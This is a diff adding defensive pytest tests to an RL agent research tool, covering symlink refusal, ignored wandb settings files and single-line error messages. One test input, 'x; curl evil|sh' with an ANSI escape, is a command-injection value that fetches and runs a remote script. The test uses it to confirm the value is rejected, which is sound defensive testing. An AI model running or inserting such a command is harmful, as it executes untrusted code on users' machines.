@@ -7,6 +7,7 @@ import subprocess
 import sys
 from collections.abc import Callable
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 from safetensors import safe_open
@@ -16,6 +17,7 @@ from support.runs import ALGO, copied, interrupted, tiny
 from myopia.agents.policies.agent import Agent
 from myopia.agents.population.population import PopulationConfig, train_population
 from myopia.agents.runs.run import RunConfig
+from myopia.agents.training.parallel import train_many
 from myopia.agents.training.train import train
 from myopia.analysis.evaluation.evaluate_run import judge_run
 from myopia.analysis.report.results import collect
@@ -115,8 +117,9 @@ def test_links_in_a_run_are_refused(place: str, kind, done: Path, outside: Path,
     refused(lambda: train(tiny(), judged), outside)
     refused(lambda: judge_run(judged), outside)
     before = contents(outside)
-    for command in (["evaluate"], ["represent", "--directions", "3"], ["report"]):
+    for command in (["evaluate"], ["represent", "--directions", "3"]):
         assert main([command[0], str(judged), *command[1:]]) == 2
+    main(["report", str(judged)])
     assert contents(outside) == before
 
 
@@ -334,3 +337,110 @@ def test_a_script_with_a_world_of_its_own_runs_studies(tmp_path: Path) -> None:
         cwd=tmp_path, capture_output=True, text=True, check=False, env=environment,
     )  # fmt: skip
     assert ran.returncode == 0, ran.stderr[-2000:]
+
+
+def test_what_wandb_links_to_is_its_own(done: Path, outside: Path, tmp_path: Path) -> None:
+    """In a tracked run; a condition of a study that is called so is checked as all others are."""
+    tracked = copied(done, tmp_path / "run")
+    plant(tracked, "wandb/run-1/logs/debug-core.log", a_file, outside)
+    judge_run(tracked)
+    assert main(["train", "Work", *SHORT, "--out", str(tracked)]) == 0
+    study = Study("t", {"world": "Work", "algo": ALGO}, {"wandb": {}}, (0,))
+    plant(tmp_path / "study", "wandb/seed-0", a_folder, outside)
+    refused(lambda: list(run_study(study, tmp_path / "study")), outside)
+    plant(tmp_path / "elsewhere", "wandb", a_folder, outside)
+    refused(lambda: train(tiny(), tmp_path / "elsewhere"), outside)
+
+
+@pytest.mark.parametrize("place", ["wandb/settings", ".wandb/settings"])
+def test_settings_of_the_folder_get_no_key(place: str, tmp_path: Path, monkeypatch, capsys) -> None:
+    begun = []
+    fake = SimpleNamespace(init=lambda **settings: begun.append(settings))
+    monkeypatch.setitem(sys.modules, "wandb", fake)
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / place).parent.mkdir()
+    (tmp_path / place).write_text("[default]\nbase_url = http://127.0.0.1:9\n")
+    assert main(["train", "Work", *SHORT, "--track", "--out", "run"]) == 2
+    assert place in capsys.readouterr().err
+    assert not begun
+    assert not (tmp_path / "run").exists()
+
+
+SHORT = ("--algo", ALGO, "--total-timesteps", "2400")
+
+
+def test_folders_that_nobody_named_are_no_links(outside: Path, tmp_path: Path, monkeypatch) -> None:
+    """Those of seeds, and the default ones, whose names are known beforehand."""
+    monkeypatch.chdir(tmp_path)
+    before = contents(outside)
+    plant(tmp_path, "many/seed-1", a_folder, outside)
+    assert main(["train", "Work", *SHORT, "--seeds", "0:2", "--out", "many"]) == 2
+    asked = tiny()
+    plant(tmp_path, f"runs/{asked.id}", a_folder, outside)
+    for act in (lambda: train(asked), lambda: train_many([asked])):
+        refused(act, outside)
+    many = PopulationConfig(asked, members=2)
+    plant(tmp_path, f"runs/{many.id}", a_folder, outside)
+    refused(lambda: train_population(many), outside)
+    for place, command in (
+        ("runs/toy-pentagon", ["toy", "pentagon", "--steps", "3"]),
+        ("runs/s-curves", ["s-curves"]),
+        ("runs/capability", ["capability"]),
+        ("runs/quickstart", ["demo"]),
+        ("runs/quickstart", ["study", "quickstart"]),
+    ):
+        plant(tmp_path, place, a_folder, outside)
+        assert main(command) == 2, command
+    assert contents(outside) == before
+
+
+@pytest.mark.parametrize(
+    ("world", "sentence"),
+    [
+        ("x; curl evil|sh\n\x1b[31m:W", "is no world, expected a name, or module:Class"),
+        (5, "its world or dials are no name and no object"),
+        (None, "its world or dials are no name and no object"),
+        (["a:B"], "its world or dials are no name and no object"),
+    ],
+)
+def test_what_a_file_says_is_one_line(world, sentence: str, done: Path, tmp_path, capsys) -> None:
+    folder = copied(done, tmp_path / "run")
+    asked = {**read_json(folder / "config.json"), "world": world}
+    (folder / "config.json").write_text(json.dumps(asked))
+    assert main(["evaluate", str(folder)]) == 2
+    told = capsys.readouterr().err
+    assert sentence in told
+    assert len(told.splitlines()) == 1
+    assert "\x1b" not in told
+
+
+@pytest.mark.parametrize(
+    "body", ["raise RuntimeError('x\\ny')", "import sys; sys.exit('bye')", "def"]
+)
+def test_a_module_that_fails_is_one_sentence(body: str, tmp_path, monkeypatch, capsys) -> None:
+    (tmp_path / "failing.py").write_text(body)
+    monkeypatch.chdir(tmp_path)
+    for command in (
+        ["evaluate", "failing:f", "Work"],
+        ["train", "failing:World"],
+        ["evaluate", "run", "--world-module", "failing.py"],
+    ):
+        assert main(command) == 2
+        told = capsys.readouterr().err
+        assert len(told.splitlines()) == 1
+        assert "failing" in told
+
+
+@pytest.mark.parametrize("condition", ["study.json", "index.html", "x" * 300])
+def test_conditions_that_name_no_folder(condition: str, tmp_path: Path) -> None:
+    study = Study("t", {"world": "Work", "algo": ALGO}, {condition: {}}, (0,))
+    with pytest.raises(ValueError, match="expected another name"):
+        list(run_study(study, tmp_path / "out"))
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_folder_of_runs_and_other_things_is_reported(done: Path, tmp_path: Path) -> None:
+    judge_run(copied(done, tmp_path / "run"))
+    (tmp_path / ".venv").mkdir()
+    (tmp_path / ".venv" / "python").symlink_to(sys.executable)
+    assert main(["report", str(tmp_path)]) == 0
